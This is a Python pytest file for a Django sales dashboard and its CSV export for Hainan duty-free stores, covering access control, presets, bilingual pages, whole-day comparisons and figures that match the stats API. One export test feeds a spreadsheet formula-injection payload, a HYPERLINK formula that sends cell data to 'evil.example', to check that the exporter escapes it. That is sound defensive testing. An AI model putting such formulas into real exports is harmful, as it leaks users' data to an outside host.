"""The staff dashboard /dashboard/ and its CSV export: staff only, presets, both languages, and
an export that says exactly what the stats API says."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date, timedelta
from html import unescape

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils import timezone, translation

from shops.models import Store
from shops.reporting import rollups, stats
from shops.reporting.dashboard import (
    CSV_COLUMNS,
    csv_columns,
    csv_header,
    dashboard_presets,
    headline_note,
    headline_period,
    sales_csv,
)
from tests import support
from tests.conftest import local

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff_client(client: Client) -> Client:
    user = get_user_model().objects.create_user("analyst", password="x", is_staff=True)
    client.force_login(user)
    return client


@pytest.fixture
def clerk_client(client: Client) -> Client:
    user = get_user_model().objects.create_user("clerk", password="x", is_staff=False)
    client.force_login(user)
    return client


def _sell(at, *lines: tuple[str, int], store: str = "SYA-HTB", serial: int = 1, **trip) -> None:
    """A sale at ``at`` in ``store`` by the shopper ``serial`` on flight HU<serial>, two days
    later."""
    departure = support.trip(f"HU{serial:04d}", departs_at=at + timedelta(days=2), **trip)
    support.sell(support.terminal(store)[0], *lines, number=serial, on=departure, at=at)


@pytest.fixture
def march_sales() -> None:
    """March 2026 and March 2025, two stores, two categories; rollups refreshed."""
    support.product("D-LIP", "cosmetics", "380.00")
    support.product("D-SET", "cosmetics", "2600.00", pieces=5)
    support.product("D-WINE", "alcohol", "900.00", volume_ml=750)
    _sell(local(2026, 3, 3, 10, 0), ("D-LIP", 2), ("D-SET", 1), serial=1)
    _sell(local(2026, 3, 3, 15, 0), ("D-WINE", 1), store="SYA-AIR", serial=2, kind="outbound")
    _sell(local(2026, 3, 20, 11, 0), ("D-LIP", 1), serial=1)
    _sell(local(2025, 3, 3, 12, 0), ("D-LIP", 3), serial=3)
    _sell(local(2025, 3, 9, 12, 0), ("D-WINE", 2), store="SYA-AIR", serial=4)
    rollups.refresh_all_dirty(now=timezone.now())


def _csv(response) -> tuple[list[str], list[list[str]]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:])))
    return rows[0], rows[1:]


def _text(value) -> str:
    return "" if value is None else str(value)


def _preset_url(html: str, slug: str) -> str:
    found = re.search(rf'<a href="([^"]+)" data-preset="{slug}"', html)
    assert found, slug
    return found.group(1)


def _config(html: str) -> dict:
    found = re.search(r'<script id="dashboard-config" type="application/json">(.*?)</script>', html)
    assert found, "no dashboard-config"
    return json.loads(found.group(1))


class TestAccess:
    def test_anonymous_is_sent_to_the_admin_login_with_next(self, client: Client) -> None:
        response = client.get("/dashboard/?start=2026-03-01&end=2026-03-31")
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/?next=")
        assert response["Location"].endswith(
            "next=/dashboard/%3Fstart%3D2026-03-01%26end%3D2026-03-31"
        )

    def test_non_staff_is_forbidden(self, clerk_client: Client) -> None:
        assert clerk_client.get("/dashboard/").status_code == 403

    def test_inactive_staff_is_forbidden_or_logged_out(self, client: Client) -> None:
        user = get_user_model().objects.create_user("gone", is_staff=True, is_active=False)
        client.force_login(user)
        assert client.get("/dashboard/").status_code in (302, 403)

    def test_export_is_staff_only(self, client: Client, clerk_client: Client) -> None:
        url = "/dashboard/export.csv?start=2026-03-01&end=2026-03-31"
        assert clerk_client.get(url).status_code == 403
        clerk_client.logout()
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/?next=")


class TestPresets:
    def test_spring_festival_is_this_years_once_it_has_begun(self) -> None:
        holiday = stats.spring_festival_holiday(2026)
        assert holiday.start < date(2026, 3, 1)
        presets = {p.slug: p for p in dashboard_presets(today=date(2026, 3, 1))}
        assert (presets["spring_festival"].start, presets["spring_festival"].end) == (
            holiday.start,
            holiday.end,
        )
        assert presets["spring_festival"].align == "spring_festival"
        on_first_day = {p.slug: p for p in dashboard_presets(today=holiday.start)}
        assert on_first_day["spring_festival"].start == holiday.start

    def test_spring_festival_is_last_years_before_this_years_has_come(self) -> None:
        holiday = stats.spring_festival_holiday(2026)
        with translation.override("en"):
            presets = {
                p.slug: p for p in dashboard_presets(today=holiday.start - timedelta(days=1))
            }
        last = stats.spring_festival_holiday(2025)
        assert (presets["spring_festival"].start, presets["spring_festival"].end) == (
            last.start,
            last.end,
        )
        assert presets["spring_festival"].label == "Spring Festival 2025"

    def test_month_week_and_year_to_date(self) -> None:
        presets = {p.slug: p for p in dashboard_presets(today=date(2026, 11, 27))}
        assert (presets["month"].start, presets["month"].end) == (
            date(2026, 11, 1),
            date(2026, 11, 27),
        )
        assert (presets["week"].start, presets["week"].end) == (
            date(2026, 11, 21),
            date(2026, 11, 27),
        )
        assert (presets["year"].start, presets["year"].end) == (
            date(2026, 1, 1),
            date(2026, 11, 27),
        )
        # Each preset sets the comparison its period implies, whatever the page showed.
        assert {slug: p.align for slug, p in presets.items()} == {
            "month": "calendar",
            "week": "weekday",
            "spring_festival": "spring_festival",
            "year": "calendar",
        }

    def test_year_to_date_after_the_spring_festival_is_by_calendar_dates(
        self, staff_client: Client
    ) -> None:
        html = staff_client.get("/dashboard/").content.decode()
        holiday = unescape(_preset_url(html, "spring_festival"))
        assert holiday.endswith("&align=spring_festival")
        html = staff_client.get(f"/dashboard/{holiday}").content.decode()
        assert _config(html)["align"] == "spring_festival"
        assert re.search(r'data-preset="spring_festival"[^>]*aria-current="page"', html)

        year = unescape(_preset_url(html, "year"))
        html = staff_client.get(f"/dashboard/{year}").content.decode()

        today = timezone.localdate()
        config = _config(html)
        assert (config["start"], config["end"], config["align"]) == (
            today.replace(month=1, day=1).isoformat(),
            today.isoformat(),
            "calendar",
        )
        assert '<option value="calendar" selected>' in html
        assert re.search(r'data-preset="year"[^>]*aria-current="page"', html)


class TestPage:
    def test_defaults_to_this_month_in_chinese_with_the_presets(self, staff_client: Client) -> None:
        today = timezone.localdate()
        response = staff_client.get("/dashboard/")
        html = response.content.decode()
        assert response.status_code == 200
        assert "no-cache" in response["Cache-Control"] or "no-store" in response["Cache-Control"]
        assert '<html lang="zh-hans">' in html
        for text in ("销售看板", "购物人次", "销售额", "购物人数", "件数", "人均消费（每人次）"):
            assert text in html, text
        assert "本月" in html
        assert "近7天" in html
        assert "本年累计" in html
        assert "Sales dashboard" not in html
        # This month is the default state, and its preset is marked as the current view.
        assert f'value="{today.replace(day=1).isoformat()}"' in html
        assert f'value="{today.isoformat()}"' in html
        config = _config(html)
        assert config["start"] == today.replace(day=1).isoformat()
        assert config["end"] == today.isoformat()
        assert config["align"] == "calendar"
        assert config["api"] == "/api/v1/stats/sales"
        assert config["labels"]["previous"] == "去年同期"
        assert config["names"]["traveller_kind"]["resident"] == "岛内居民"
        # Charts show the stores' short names; a tooltip names them in full.
        assert config["names"]["store"]["SYA-HTB"] == "三亚国际免税城"
        assert config["full_names"]["store"]["SYA-HTB"] == "中免三亚海棠湾国际免税城"
        assert config["names"]["category"]["cosmetics"] == "化妆品"
        assert re.search(r'data-preset="month"[^>]*aria-current="page"', html)
        # Every chart and the totals have their CSV link, for this view.
        links = re.findall(r'href="(/dashboard/export\.csv\?[^"]+)"', html)
        assert len(links) == 5
        assert {unescape(link).split("group_by=")[-1] for link in links if "group_by" in link} == {
            "day",
            "store",
            "category",
            "traveller_kind",
        }
        assert all(f"start={today.replace(day=1).isoformat()}" in link for link in links)
        assert 'src="/static/shops/vendor/echarts/echarts.min.js"' in html
        assert "cdn" not in html.lower()

    @pytest.mark.parametrize(
        ("language", "titles", "last_year"),
        [
            ("zh-hans", ["购物人次", "销售额", "购物人数", "件数", "人均消费（每人次）"],
             "去年同期："),
            ("en", ["Shopper-trips (人次)", "Sales amount", "Shoppers", "Items",
                    "Average spend per shopper-trip"], "Last year:"),
        ],
    )  # fmt: skip
    def test_the_five_headline_cards_come_from_one_template(
        self, staff_client: Client, language: str, titles: list[str], last_year: str
    ) -> None:
        """Each card from templates/shops/_dashboard_card.html: its title, the places the
        script fills with its figure (tests/browser/test_dashboard.py sees them filled), last
        year's and the growth; the amount's line in 万 or 亿; the first two marked primary."""
        html = staff_client.get("/dashboard/", headers={"accept-language": language}).content
        cards = re.findall(
            r'<article class="card( primary)?" data-figure="(\w+)">\s*<h2>([^<]+)</h2>\s*'
            r'<p class="value" data-testid="card-(\w+)">—</p>\s*(.*?)</article>',
            html.decode(),
            re.DOTALL,
        )
        figures = ["shopper_trips", "amount", "shoppers", "items", "average_spend"]
        assert [(primary, figure, title) for primary, figure, title, _, _ in cards] == [
            (" primary", "shopper_trips", titles[0]),
            (" primary", "amount", titles[1]),
            ("", "shoppers", titles[2]),
            ("", "items", titles[3]),
            ("", "average_spend", titles[4]),
        ]
        assert [testid for _, _, _, testid, _ in cards] == figures
        for _, figure, _, _, rest in cards:
            rest = re.sub(r"\s+", " ", rest).strip()
            approx = '<p class="approx" data-role="approx"></p> ' if figure == "amount" else ""
            assert rest == (
                f'{approx}<p class="previous">{last_year} <span data-role="previous">—</span></p>'
                ' <p class="yoy" data-role="yoy">—</p>'
            ), figure
        page = (settings.BASE_DIR / "templates/shops/dashboard.html").read_text()
        assert "<article" not in page
        assert page.count('{% include "shops/_dashboard_card.html" with ') == 5

    def test_spring_festival_preset_has_the_official_holiday(self, staff_client: Client) -> None:
        today = timezone.localdate()
        holiday = stats.spring_festival_holiday(today.year)
        if holiday.start > today:
            holiday = stats.spring_festival_holiday(today.year - 1)
        html = staff_client.get("/dashboard/").content.decode()
        link = re.search(r'<a href="([^"]+)" data-preset="spring_festival"[^>]*>([^<]+)</a>', html)
        assert link
        assert unescape(link.group(1)) == (
            f"?start={holiday.start.isoformat()}&end={holiday.end.isoformat()}"
            "&align=spring_festival"
        )
        assert link.group(2) == f"{holiday.start.year}年春节"

    def test_state_from_the_query_string(self, staff_client: Client) -> None:
        response = staff_client.get("/dashboard/?start=2026-03-01&end=2026-03-31&align=weekday")
        html = response.content.decode()
        assert response.status_code == 200
        config = _config(html)
        assert (config["start"], config["end"], config["align"]) == (
            "2026-03-01",
            "2026-03-31",
            "weekday",
        )
        assert '<option value="weekday" selected>' in html
        assert "/dashboard/export.csv?start=2026-03-01&amp;end=2026-03-31&amp;align=weekday" in html
        # A preset sets its own alignment: this month by calendar dates, even from a weekday view.
        assert _preset_url(html, "month").endswith("align=calendar")
        assert _preset_url(html, "week").endswith("align=weekday")
        assert not re.search(r'data-preset="month"[^>]*aria-current', html)

    @pytest.mark.parametrize(
        "query",
        [
            "start=2026-03-31&end=2026-03-01",
            "start=nope&end=2026-03-01",
            "start=2020-01-01&end=2026-03-01",
            "start=2026-03-01&end=2026-03-31&align=lunar",
        ],
    )
    def test_bad_state_is_a_400_page_without_charts(self, staff_client: Client, query) -> None:
        response = staff_client.get(f"/dashboard/?{query}")
        html = response.content.decode()
        assert response.status_code == 400
        assert 'role="alert"' in html
        assert "dashboard-config" not in html
        assert 'data-preset="month"' in html  # a way back

    def test_english_by_accept_language(self, staff_client: Client) -> None:
        html = staff_client.get("/dashboard/", headers={"accept-language": "en"}).content.decode()
        assert '<html lang="en">' in html
        for text in ("Sales dashboard", "Shopper-trips (人次)", "Sales amount", "This month"):
            assert text in html, text
        main = html.split("</header>", 1)[1]
        assert "销售看板" not in main
        config = _config(html)
        assert config["labels"]["previous"] == "Last year"
        assert config["names"]["traveller_kind"]["outbound"] == "Outbound departure"
        assert config["names"]["category"]["cosmetics"] == "Cosmetics"
        stores = config["names"]["store"]
        assert (stores["SYA-HTB"], stores["SYA-CNSC"]) == ("cdf Sanya Intl.", "CNSC Sanya")
        assert len(set(stores.values())) == len(stores)
        assert config["full_names"]["store"]["SYA-CNSC"] == (
            "CNSC Sanya International Duty Free Shopping Park"
        )

    def test_a_store_without_a_short_name_shows_its_full_name(self, staff_client: Client) -> None:
        Store.objects.create(
            code="HAK-NEW", name_zh="海口新店", name_en="Haikou New", city="Haikou"
        )
        html = staff_client.get("/dashboard/", headers={"accept-language": "en"}).content.decode()
        assert _config(html)["names"]["store"]["HAK-NEW"] == "Haikou New"

    def test_the_charts_say_what_they_measure(self, staff_client: Client) -> None:
        html = staff_client.get("/dashboard/").content.decode()
        titles = re.findall(r'<h2 id="title-[a-z]+">([^<]+)</h2>', html)
        assert titles == [
            "每日销售额与去年同期对比",
            "各门店销售额",
            "各类旅客销售额占比",
            "各品类销售额",
        ]
        assert "各类旅客在销售额中的占比；" in html  # the donut's caption
        html = staff_client.get("/dashboard/", headers={"accept-language": "en"}).content.decode()
        titles = re.findall(r'<h2 id="title-[a-z]+">([^<]+)</h2>', html)
        assert titles[1:] == [
            "Sales amount by store",
            "Sales amount by traveller kind",
            "Sales amount by category",
        ]
        assert _config(html)["labels"]["share_of_amount"] == "%(share)s of the sales amount"

    def test_english_by_the_switch(self, staff_client: Client) -> None:
        response = staff_client.post(
            "/i18n/setlang/", {"language": "en", "next": "/dashboard/?start=2026-03-01"}
        )
        assert response.status_code == 302
        html = staff_client.get(response["Location"]).content.decode()
        assert '<html lang="en">' in html
        assert "Download by store (CSV)" in html
        assert "下载门店数据" not in html


class TestHeadline:
    """The cards compare whole days: today so far against a whole day a year earlier would
    always fall."""

    def test_the_period_ends_yesterday_at_the_latest(self) -> None:
        today = date(2026, 3, 20)
        month = headline_period(start=date(2026, 3, 1), end=today, today=today)
        past = headline_period(start=date(2026, 2, 1), end=date(2026, 2, 28), today=today)
        future = headline_period(start=date(2026, 3, 1), end=date(2026, 3, 31), today=today)

        assert month == stats.Period(date(2026, 3, 1), date(2026, 3, 19))
        assert past == stats.Period(date(2026, 2, 1), date(2026, 2, 28))  # whole already
        assert future == stats.Period(date(2026, 3, 1), date(2026, 3, 19))
        assert headline_period(start=today, end=today, today=today) is None

    def test_just_after_local_midnight_yesterday_is_the_local_one(self) -> None:
        now = local(2026, 3, 1, 0, 5)  # still 28 February in UTC
        today = timezone.localdate(now)
        presets = {p.slug: p for p in dashboard_presets(today=today)}

        month = headline_period(start=presets["month"].start, end=presets["month"].end, today=today)
        week = headline_period(start=presets["week"].start, end=presets["week"].end, today=today)

        assert today == date(2026, 3, 1)
        assert month is None  # the month has no whole day yet
        assert week == stats.Period(date(2026, 2, 23), date(2026, 2, 28))

    def test_the_note_says_what_is_compared_in_both_languages(self) -> None:
        cut = stats.Period(date(2026, 3, 1), date(2026, 3, 19))
        with translation.override("en"):
            assert headline_note(end=date(2026, 3, 20), headline=cut, align="calendar") == (
                "Whole days to yesterday (2026-03-01 – 2026-03-19), compared with the same "
                "dates a year earlier."
            )
            assert headline_note(end=date(2026, 3, 19), headline=cut, align="weekday") == (
                "The whole period, compared with the same weekdays a year earlier (364 days back)."
            )
            assert headline_note(end=date(2026, 3, 1), headline=None, align="calendar") == (
                "Today is not over: the headline compares whole days only, and this period has "
                "none yet."
            )
        with translation.override("zh-hans"):
            assert headline_note(end=date(2026, 3, 20), headline=cut, align="calendar") == (
                "截至昨日的完整天数（2026-03-01 – 2026-03-19），与上年同期（相同日期）比较。"
            )
            assert headline_note(end=date(2026, 3, 20), headline=cut, align="spring_festival") == (
                "截至昨日的完整天数（2026-03-01 – 2026-03-19），与上年春节起算的同期比较。"
            )

    def test_at_a_fixed_clock_the_cards_compare_whole_days_with_the_same_dates(
        self, staff_client: Client, march_sales, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        # Last year's 20 March had a whole day of sales, this year's is not over at noon.
        _sell(local(2025, 3, 20, 18, 0), ("D-WINE", 1), store="SYA-AIR", serial=5)
        rollups.refresh_all_dirty(now=timezone.now())
        monkeypatch.setattr(timezone, "now", lambda: local(2026, 3, 20, 12, 0))

        html = staff_client.get("/dashboard/").content.decode()
        config = _config(html)
        cards = staff_client.get(
            "/api/v1/stats/sales", {**config["headline"], "align": config["align"]}
        ).json()
        whole = staff_client.get(
            "/api/v1/stats/sales", {"start": config["start"], "end": config["end"]}
        ).json()

        assert (config["start"], config["end"]) == ("2026-03-01", "2026-03-20")
        assert config["headline"] == {"start": "2026-03-01", "end": "2026-03-19"}
        assert cards["previous"] == {"start": "2025-03-01", "end": "2025-03-19"}
        # Today's 380 and last year's whole 20 March (900) are both left out.
        assert (cards["totals"]["amount"], cards["totals"]["previous_amount"]) == (
            "4260.00",
            "2940.00",
        )
        assert cards["totals"]["amount_yoy_pct"] == "44.9"
        assert whole["totals"]["previous_amount"] == "3840.00"  # what the cards no longer use
        note = re.search(r'data-testid="headline-note">([^<]+)<', html)
        assert note
        assert unescape(note.group(1)) == (
            "截至昨日的完整天数（2026-03-01 – 2026-03-19），与上年同期（相同日期）比较。"
        )
        english = staff_client.get("/dashboard/", headers={"accept-language": "en"})
        assert "Whole days to yesterday (2026-03-01 – 2026-03-19)" in english.content.decode()

    def test_on_the_first_of_the_month_the_cards_wait_for_a_whole_day(
        self, staff_client: Client, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr(timezone, "now", lambda: local(2026, 4, 1, 9, 0))

        html = staff_client.get("/dashboard/", headers={"accept-language": "en"}).content.decode()

        assert _config(html)["headline"] is None
        assert "Today is not over: the headline compares whole days only" in html

    def test_a_past_period_is_compared_whole(self, staff_client: Client) -> None:
        html = staff_client.get(
            "/dashboard/?start=2026-03-01&end=2026-03-31&align=weekday",
            headers={"accept-language": "en"},
        ).content.decode()

        assert _config(html)["headline"] == {"start": "2026-03-01", "end": "2026-03-31"}
        assert "The whole period, compared with the same weekdays a year earlier" in html


class TestExport:
    def test_names_a_spreadsheet_would_run_are_quoted_and_figures_are_not(self) -> None:
        answer = {
            "group_by": "store",
            "previous": {"start": "2025-03-01", "end": "2025-03-31"},
            "totals": {"amount": "900.00", "amount_yoy_pct": "-50.0"},
            "groups": [{"key": "SYA-AIR", "amount": "900.00", "amount_yoy_pct": "-50.0"}],
        }
        evil = '=HYPERLINK("http://evil.example/?q="&A2,"点击")'
        text = sales_csv(answer, names={"SYA-AIR": "@SUM(1)"}, full_names={"SYA-AIR": evil})
        header = csv_columns("store")
        _header, _totals, group = (
            dict(zip(header, row, strict=True)) for row in csv.reader(io.StringIO(text))
        )
        assert (group["name"], group["full_name"]) == ("'@SUM(1)", "'" + evil)
        assert group["amount_yoy_pct"] == "-50.0"

    def test_totals_and_groups_equal_the_stats(self, staff_client: Client, march_sales) -> None:
        for group_by in (None, "day", "month", "store", "category", "traveller_kind"):
            query = "start=2026-03-01&end=2026-03-31&align=calendar"
            response = staff_client.get(
                f"/dashboard/export.csv?{query}" + (f"&group_by={group_by}" if group_by else "")
            )
            assert response.status_code == 200, group_by
            assert response["Content-Type"] == "text/csv; charset=utf-8"
            suffix = (group_by or "totals").replace("_", "-")
            assert response["Content-Disposition"] == (
                f'attachment; filename="dutyfree-sales-2026-03-01-2026-03-31-{suffix}.csv"'
            )
            header, rows = _csv(response)
            with translation.override("zh-hans"):
                assert header == csv_header(group_by)
            header = csv_columns(group_by)  # by position, as the stats API names them
            figures = header[header.index("previous_key") + 1 :]
            expected = stats.sales_stats(
                start=date(2026, 3, 1), end=date(2026, 3, 31), group_by=group_by
            )
            totals = dict(zip(header, rows[0], strict=True))
            assert totals["key"] == "total"
            assert totals["previous_key"] == "2025-03-01/2025-03-31"
            for column in figures:
                assert totals[column] == _text(expected["totals"].get(column)), column
            groups = expected.get("groups", [])
            assert len(rows) == 1 + len(groups)
            for row, group in zip(rows[1:], groups, strict=True):
                got = dict(zip(header, row, strict=True))
                assert got["key"] == str(group["key"])
                for column in figures:
                    assert got[column] == _text(group.get(column)), (group_by, column)

    def test_the_header_is_in_the_request_language(self, staff_client: Client, march_sales) -> None:
        url = "/dashboard/export.csv?start=2026-03-01&end=2026-03-31&group_by=store"
        zh, _ = _csv(staff_client.get(url))
        en, _ = _csv(staff_client.get(url, headers={"accept-language": "en"}))
        assert zh[:10] == [
            "门店代码",
            "简称",
            "全称",
            "去年同期（对比日期）",
            "销售额（元）",
            "去年同期销售额（元）",
            "销售额同比（%）",
            "购物人次",
            "去年同期购物人次",
            "购物人次同比（%）",
        ]
        assert en[:10] == [
            "Store code",
            "Short name",
            "Full name",
            "Compared with (last year)",
            "Sales amount (CNY)",
            "Sales amount last year (CNY)",
            "Sales amount YoY (%)",
            "Shopper-trips (人次)",
            "Shopper-trips (人次) last year",
            "Shopper-trips (人次) YoY (%)",
        ]
        assert zh[13:16] == ["人均消费（元）", "去年同期人均消费（元）", "人均消费同比（%）"]
        assert zh[-3:] == ["交易笔数", "去年同期交易笔数", "交易笔数同比（%）"]
        assert en[-3:] == ["Receipts", "Receipts last year", "Receipts YoY (%)"]
        assert len(zh) == len(en) == len(CSV_COLUMNS) + 1
        day, _ = _csv(staff_client.get(url.replace("store", "day")))
        assert day[:2] == ["日期", "名称"]
        assert len(day) == len(CSV_COLUMNS)

    def test_the_figures_are_the_sales(self, staff_client: Client, march_sales) -> None:
        response = staff_client.get(
            "/dashboard/export.csv?start=2026-03-01&end=2026-03-31&group_by=store"
        )
        _, rows = _csv(response)
        header = csv_columns("store")
        totals = dict(zip(header, rows[0], strict=True))
        # 2 × 380 + 2,600 + 900 + 380 this March; 3 × 380 + 2 × 900 last March.
        assert totals["amount"] == "4640.00"
        assert totals["previous_amount"] == "2940.00"
        assert totals["amount_yoy_pct"] == "57.8"
        assert totals["shopper_trips"] == "3"  # shopper 1 bought for two departures
        assert totals["shoppers"] == "2"
        assert totals["items"] == "9"  # 2 + 5 (a set of five) + 1 + 1
        assert totals["sales"] == "3"
        assert totals["name"] == "合计"
        by_store = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
        assert by_store["SYA-HTB"]["amount"] == "3740.00"
        assert by_store["SYA-AIR"]["amount"] == "900.00"
        assert by_store["SYA-AIR"]["previous_amount"] == "1800.00"
        assert by_store["SYA-AIR"]["amount_yoy_pct"] == "-50.0"
        # The short name the chart shows, and the full name beside it.
        assert by_store["SYA-HTB"]["name"] == "三亚国际免税城"
        assert by_store["SYA-HTB"]["full_name"] == "中免三亚海棠湾国际免税城"
        assert totals["full_name"] == ""

    def test_store_rows_use_the_short_name_in_english(
        self, staff_client: Client, march_sales
    ) -> None:
        response = staff_client.get(
            "/dashboard/export.csv?start=2026-03-01&end=2026-03-31&group_by=store",
            headers={"accept-language": "en"},
        )
        _, rows = _csv(response)
        by_store = {row[0]: dict(zip(csv_columns("store"), row, strict=True)) for row in rows[1:]}
        assert (by_store["SYA-HTB"]["name"], by_store["SYA-HTB"]["full_name"]) == (
            "cdf Sanya Intl.",
            "cdf Sanya International Duty Free City (Haitang Bay)",
        )
        assert by_store["SYA-AIR"]["name"] == "cdf Sanya Airport"

    def test_category_names_and_blank_distinct_counts(
        self, staff_client: Client, march_sales
    ) -> None:
        response = staff_client.get(
            "/dashboard/export.csv?start=2026-03-01&end=2026-03-31&group_by=category",
            headers={"accept-language": "en"},
        )
        _, rows = _csv(response)
        header = CSV_COLUMNS
        by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
        assert by_code["cosmetics"]["name"] == "Cosmetics"
        assert by_code["cosmetics"]["amount"] == "3740.00"
        assert by_code["alcohol"]["previous_amount"] == "1800.00"
        assert by_code["alcohol"]["shopper_trips"] == ""  # the rollup keeps no sets per category
        assert dict(zip(header, rows[0], strict=True))["name"] == "Total"

    def test_day_rows_and_other_alignments(self, staff_client: Client, march_sales) -> None:
        response = staff_client.get(
            "/dashboard/export.csv?start=2026-03-01&end=2026-03-07&group_by=day&align=weekday"
        )
        assert response["Content-Disposition"].endswith('-2026-03-07-day-weekday.csv"')
        _, rows = _csv(response)
        header = CSV_COLUMNS
        days = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
        assert list(days) == [f"2026-03-0{n}" for n in range(1, 8)]
        assert days["2026-03-03"]["previous_key"] == "2025-03-04"  # 364 days back
        assert days["2026-03-03"]["amount"] == "4260.00"
        assert days["2026-03-02"]["amount"] == "0.00"
        expected = stats.sales_stats(
            start=date(2026, 3, 1), end=date(2026, 3, 7), group_by="day", align="weekday"
        )
        assert (
            dict(zip(header, rows[0], strict=True))["previous_amount"]
            == (expected["totals"]["previous_amount"])
        )

    @pytest.mark.parametrize(
        "query",
        [
            "",
            "start=2026-03-01",
            "start=2026-03-31&end=2026-03-01",
            "start=2026-02-30&end=2026-03-01",
            "start=2026-03-01&end=2026-03-31&group_by=week",
            "start=2026-03-01&end=2026-03-31&align=moon",
            "start=2019-01-01&end=2026-03-31",
        ],
    )
    def test_bad_params_are_400_problems(self, staff_client: Client, query) -> None:
        response = staff_client.get(f"/dashboard/export.csv?{query}")
        assert response.status_code == 400
        assert response["Content-Type"] == "application/problem+json"
        body = response.json()
        assert body["status"] == 400
        assert body["code"] == "invalid_input"
        assert body["errors"]


class TestStaffSignIn:
    """The sign-in page the dashboard sends staff to is the project's own, in both languages,
    and so are the admin's headers."""

    URL = "/admin/login/?next=/dashboard/"

    @pytest.mark.parametrize(
        ("language", "texts"),
        [
            ("zh-hans", ("<h1>员工登录</h1>", "<title>员工登录 | 海南离岛免税</title>", "登录")),
            (
                "en",
                (
                    "<h1>Staff sign-in</h1>",
                    "<title>Staff sign-in | Hainan offshore duty-free</title>",
                    "Sign in",
                ),
            ),
        ],
    )
    def test_the_page_is_the_projects_own(self, client: Client, language, texts) -> None:
        response = client.get(self.URL, headers={"accept-language": language})
        html = response.content.decode()
        assert response.status_code == 200
        assert f'<html lang="{language}">' in html
        for text in texts:
            assert text in html, text
        assert "Django" not in html
        assert "/static/shops/site.css" in html
        assert "/static/admin/" not in html  # not the stock admin page
        assert 'class="languages"' in html  # the language switch keeps ?next=
        assert 'name="next" value="/dashboard/"' in html
        assert 'name="username"' in html
        assert 'name="password"' in html

    def test_a_wrong_password_is_said_in_the_language_and_the_right_one_signs_in(
        self, client: Client
    ) -> None:
        get_user_model().objects.create_user("analyst", password="right-pass-1", is_staff=True)
        wrong = client.post(
            self.URL,
            {"username": "analyst", "password": "nope", "next": "/dashboard/"},
            headers={"accept-language": "en"},
        )
        assert wrong.status_code == 200
        html = wrong.content.decode()
        assert "<title>Error: Staff sign-in" in html
        assert 'class="notice error" role="alert">Please enter the correct username' in html
        right = client.post(
            self.URL, {"username": "analyst", "password": "right-pass-1", "next": "/dashboard/"}
        )
        assert right.status_code == 302
        assert right["Location"] == "/dashboard/"
        assert client.get("/dashboard/").status_code == 200

    @pytest.mark.parametrize(
        ("language", "header", "title", "index"),
        [
            ("zh-hans", "海南离岛免税管理后台", "海南离岛免税", "政策、门店与销售"),
            (
                "en",
                "Hainan offshore duty-free administration",
                "Hainan offshore duty-free",
                "Policies, stores and sales",
            ),
        ],
    )
    def test_the_admin_names_the_project(
        self, client: Client, language, header, title, index
    ) -> None:
        user = get_user_model().objects.create_superuser("root", password="x")
        client.force_login(user)
        html = client.get("/admin/", headers={"accept-language": language}).content.decode()
        assert f"<title>{index} | {title}</title>" in html
        assert f'<a href="/admin/">{header}</a>' in html
        assert f"<h1>{index}</h1>" in html
        assert "Django" not in html.split("<body", 1)[1].split("</header>", 1)[0]
